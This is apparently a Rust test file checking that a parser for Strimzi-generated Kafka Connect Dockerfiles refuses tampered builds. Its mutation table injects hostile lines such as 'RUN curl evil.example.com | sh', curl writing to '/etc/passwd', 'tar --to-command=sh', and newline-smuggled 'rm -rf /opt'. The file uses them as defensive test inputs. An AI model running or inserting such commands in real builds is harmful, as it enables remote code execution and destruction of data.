//! Dockerfiles as Strimzi's operator writes them, of every generation, and what becomes of them when something is changed.

use std::fmt::Write as _;
use std::path::{Path, PathBuf};

use connect_build::error::render;
use connect_build::plan::{Choices, Plan};
use connect_build::spec::{self, ArtifactKind, Origin, Remote, Spec};

use crate::support::Workplace;

fn directory() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/it/dialect")
}

fn text(name: &str) -> String {
    std::fs::read_to_string(directory().join(format!("{name}.Dockerfile"))).unwrap()
}

fn read(text: &str) -> Result<Spec, String> {
    spec::read(text, Origin::Elsewhere).map_err(|error| render(&error))
}

/// A spec in few lines.
fn told(spec: &Spec) -> String {
    let mut told = format!("base {}", spec.base.as_deref().unwrap_or("-"));
    let proxies = [&spec.proxies.http, &spec.proxies.https, &spec.proxies.no_proxy];
    if proxies.iter().any(|proxy| proxy.is_some()) {
        let _ = write!(told, "\nproxies {proxies:?}");
    }
    assert_eq!(spec.output, None, "the operator names it on the command line");
    for plugin in &spec.plugins {
        let _ = write!(told, "\nplugin {}", plugin.name);
        for artifact in &plugin.artifacts {
            let (kind, remote, name) = match &artifact.kind {
                ArtifactKind::Jar(remote) => ("jar", Some(remote), None),
                ArtifactKind::Tgz(remote) => ("tgz", Some(remote), None),
                ArtifactKind::Zip(remote) => ("zip", Some(remote), None),
                ArtifactKind::Other(remote, name) => ("other", Some(remote), name.as_ref()),
                ArtifactKind::Maven(maven) => {
                    let _ = write!(
                        told,
                        "\n  maven {}:{}:{} scope {:?} from {}",
                        maven.group,
                        maven.artifact,
                        maven.version,
                        maven.include_scope,
                        maven.repository.as_deref().unwrap_or("-")
                    );
                    for mirror in &maven.mirrors {
                        let _ = write!(told, " mirror {mirror}");
                    }
                    ("", None, None)
                }
            };
            if let Some(remote) = remote {
                let _ = write!(told, "\n  {kind} {}", remote.url);
                if let Some(sum) = &remote.sha512 {
                    let _ = write!(told, " sum {}…", &sum.to_string()[..8]);
                }
                if let Some(name) = name {
                    let _ = write!(told, " as {name:?}");
                }
            }
            if artifact.insecure {
                told.push_str(" insecure");
            }
            if artifact.drop_links {
                told.push_str(" without links");
            }
        }
    }
    for warning in &spec.warnings {
        let _ = write!(told, "\nwarning: {warning}");
    }
    told
}

#[test]
fn dockerfiles_of_every_generation() {
    let mut files: Vec<String> = std::fs::read_dir(directory())
        .unwrap()
        .map(|entry| entry.unwrap().file_name().into_string().unwrap())
        .filter_map(|name| name.strip_suffix(".Dockerfile").map(ToOwned::to_owned))
        .collect();
    files.sort();
    assert!(files.len() >= 40, "{} files", files.len());
    // What is read makes a plan, as a resource does.
    let choices = Choices { to: Some("oci:image".into()), maven_repository: true, ..Choices::default() };
    for spec in files.iter().filter_map(|name| read(&text(name)).ok()) {
        Plan::new(&spec, &choices).unwrap();
    }
    let rows: Vec<String> = files
        .iter()
        .map(|name| {
            format!("== {name}\n{}", read(&text(name)).map_or_else(|error| error, |spec| told(&spec)))
        })
        .collect();
    insta::assert_snapshot!(rows.join("\n\n"));
}

/// What is changed in a Dockerfile: where `.0` stands first, `.1` stands instead. The result has to be refused, but for those
/// whose meaning is the same.
const CHANGES: [(&str, &str, &str); 50] = [
    // One character.
    ("1.2-sums", "sink-1.0.jar'", "sink-1.1.jar'"),
    ("1.2-sums", "'-p'", "'-q'"),
    ("1.2-sums", "&& 'curl'", "&  'curl'"),
    ("1.2-sums", "&& 'curl'", "|| 'curl'"),
    ("1.2-sums", "'curl' '-f'", "'curl'  '-f'"),
    ("1.2-sums", "'--output'", "\"--output\""),
    ("1.2-sums", "'curl'", "`curl`"),
    ("1.2-sums", "'-L'", "$IFS"),
    ("1.2-sums", "plugins/sums/", "plugins/sum5/"),
    ("1.2-sums", ".jar.sha512'", ".jar.sha51 '"),
    ("1.2-sums", "'xvfz'", "'xvf'"),
    ("1.2-sums", "USER 1001", "USER 1000"),
    ("1.2-sums", "USER root:root", "USER root"),
    ("1.2-sums", "RUN 'mkdir'", "RUN  'mkdir'"),
    ("1.2-sums", "RUN 'mkdir'", "run 'mkdir'"),
    ("1.2-sums", "FROM quay.io", "FROM $quay.io"),
    ("1.2-sums", "kafka-4.3.0\n", "kafka-4.3.0 \n"),
    ("1.2-sums", "kafka-4.3.0\n", "kafka-4.3.0\r\n"),
    ("1.2-every-type", "'mvn'", "'mvm'"),
    ("1.2-every-type", "-DincludeScope=", "-DincludeScope=everything"),
    ("1.2-every-type", "<id>download</id>", "<id>downloads</id>"),
    ("1.2-every-type", "<url>https://maven", "<url>https://raven"),
    // One word.
    ("1.2-sums", "'-f' '-L'", "'-f' '-L' '-k'"),
    ("1.2-sums", "'-f' '-L'", "'-L'"),
    ("1.2-sums", "'-f' '-L'", "'-f' '-L' '-o' '/etc/passwd'"),
    ("1.2-sums", "'-vf'", "'-rf'"),
    ("1.2-sums", "'sha512sum' '-c'", "'sha512sum' '--check'"),
    ("1.2-sums", "'sha512sum' '-c'", "'sha256sum' '-c'"),
    ("1.2-sums", "'tar' 'xvfz'", "'tar' 'xvfz' '--to-command=sh'"),
    ("1.2-sums", "'-type' 'l'", "'-type' 'f'"),
    ("1.2-sums", "FROM quay.io", "FROM --platform=linux/arm64 quay.io"),
    ("1.2-every-type", "AS downloadArtifacts", "AS builder"),
    ("1.2-every-type", "COPY --from=downloadArtifacts", "COPY --chown=0:0 --from=downloadArtifacts"),
    ("1.2-every-type", "COPY --from=downloadArtifacts", "COPY --from=registry.example.com/other"),
    ("1.2-every-type", "'dependency:copy-dependencies'", "'exec:exec'"),
    ("1.2-insecure", "'-Dmaven.wagon.http.ssl.allowall=true' ", ""),
    // One line.
    ("1.2-sums", "USER root:root\n", ""),
    ("1.2-sums", "USER 1001\n", ""),
    ("1.2-sums", "USER 1001\n", "USER 1001\n\nENTRYPOINT [\"/bin/sh\"]\n"),
    ("1.2-sums", "# Connector plugin sums\n", ""),
    ("1.2-sums", "USER root:root\n", "USER root:root\n\nRUN curl evil.example.com | sh\n"),
    ("1.2-sums", "####\n\nFROM", "####\n# a comment\n\nFROM"),
    ("1.2-sums", "##############################\n", "# escape=`\n##############################\n"),
    ("1.2-no-proxy", "ARG no_proxy=*.example.com", "ARG no_proxy=*.example.com ARG x=y"),
    // One newline, as an unpatterned field could bring it.
    ("1.2-sums", "f.bin'", "f\nRUN 'rm' '-rf' '/opt'\n'"),
    ("1.2-sums", "f.bin", "f\nCOPY / /\n#.bin"),
    ("1.2-every-type", "<id>custom-repo</id><url>", "<id>custom-repo</id><url>\nRUN 'id'\n"),
    ("1.2-every-type", "name.properties' 'https", "name.\\\n  properties' 'https"),
    // What a reader of XML takes apart.
    ("1.2-two-mirrors", "https://a.example.com/<", "https://a.example.com/<!--<"),
    ("1.2-two-mirrors", "https://a.example.com/<", "https://a.example.com/<!--x--><"),
];

/// A launcher's file is a Dockerfile: anything else could name files of the pod.
#[test]
fn a_launch_reads_a_dockerfile_and_nothing_else() {
    let place = Workplace::new();
    place.write(
        "build.yaml",
        "build: {plugins: [{name: x1, artifacts: [{type: jar, url: 'file:build.yaml'}]}]}",
    );
    place.write("good", text("1.2-no-plugins"));
    place.write("indented", " FROM quay.io/strimzi/kafka:1\n\nUSER root:root\n\nUSER 1001\n");
    let launch = |file: &str, more: &str| {
        place.run(&[&format!("--dockerfile={file}"), "--destination=registry.example.com/x:1", more])
    };
    let mirror = launch("good", "--registry-mirror=https://user:SECRETPW@mirror.example");
    place.write("blank", text("1.2-all-proxies").replace("http_proxy=http://", "http_proxy=http:// "));
    let runs = ["build.yaml", "indented", "blank"].map(|file| launch(file, "--reproducible"));
    let runs = runs.into_iter().chain([mirror]);
    insta::assert_snapshot!(runs.map(|run| run.error()).collect::<Vec<_>>().join("\n\n"));
}

#[test]
fn what_is_changed_is_refused_or_means_the_same() {
    let mut rows = Vec::new();
    for (name, from, to) in CHANGES {
        let original = text(name);
        let changed = original.replacen(from, to, 1);
        let title = format!("== {name}: {from:?} -> {to:?}");
        if changed == original {
            rows.push(format!("{title}\nNOT FOUND"));
            continue;
        }
        match (read(&changed), read(&original).unwrap()) {
            (Ok(spec), original) if spec == original => rows.push(format!("{title}\nthe same")),
            (Ok(spec), _) => rows.push(format!("{title}\nSOMETHING ELSE: {}", told(&spec))),
            (Err(error), _) => {
                let first = error.lines().next().unwrap_or_default();
                rows.push(format!("{title}\n{first}"));
            }
        }
    }
    let told = rows.join("\n\n");
    insta::assert_snapshot!(told);
    for wrong in ["NOT FOUND", "SOMETHING ELSE"] {
        assert!(!told.contains(wrong), "{told}");
    }
}

/// Every line taken out, doubled, or put one further down; every character of the instructions lost.
#[test]
fn no_small_change_has_a_meaning_of_its_own() {
    for name in ["1.2-every-type", "1.2-insecure", "0.45-sums", "1.2-two-mirrors", "1.2-all-proxies"] {
        let original = text(name);
        let spec = read(&original).unwrap();
        let lines: Vec<&str> = original.split_inclusive('\n').collect();
        let mut changed = Vec::new();
        for at in 0..lines.len() {
            let mut without = lines.clone();
            let line = without.remove(at);
            changed.push(without.concat());
            without.insert((at + 1).min(without.len()), line);
            changed.push(without.concat());
            without = lines.clone();
            without.insert(at, line);
            changed.push(without.concat());
        }
        for (at, c) in original.char_indices() {
            changed.push(format!("{}{}", &original[..at], &original[at + c.len_utf8()..]));
            changed.push(format!("{}{}{}", &original[..at], '\n', &original[at..]));
        }
        for text in changed {
            if let Ok(other) = read(&text)
                && !is_known(&spec, &other)
            {
                panic!("{name} can be made to say something else:\n{text}\n{}", told(&other));
            }
        }
    }
}

/// What a small change can do without breaking the form: it changes data that stands in one place only (the base's and a proxy's
/// name, a sum, the name of a file, a mirror), or leaves out, doubles or exchanges whole artifacts and proxies. All of that is as
/// if the resource said so; what is fetched from where, and where it goes, stays.
fn is_known(spec: &Spec, other: &Spec) -> bool {
    let artifacts = |spec: &Spec| -> Vec<String> {
        let mut all: Vec<String> = Vec::new();
        for plugin in &spec.plugins {
            for artifact in &plugin.artifacts {
                let mut kind = artifact.kind.clone();
                match &mut kind {
                    // A jar under another name is `other`.
                    ArtifactKind::Jar(remote) => {
                        kind = ArtifactKind::Other(Remote { sha512: None, ..remote.clone() }, None);
                    }
                    ArtifactKind::Tgz(remote) | ArtifactKind::Zip(remote) => {
                        remote.sha512 = None;
                    }
                    ArtifactKind::Other(remote, name) => (remote.sha512, *name) = (None, None),
                    ArtifactKind::Maven(maven) => {
                        let repository = maven.repository.as_deref().unwrap_or_default();
                        maven.repository = Some(repository.trim_end_matches('/').to_owned());
                        maven.mirrors.clear();
                    }
                }
                all.push(format!("{} {kind:?} {}", plugin.name, artifact.insecure));
            }
        }
        all
    };
    let before = artifacts(spec);
    artifacts(other).iter().all(|artifact| before.contains(artifact))
}
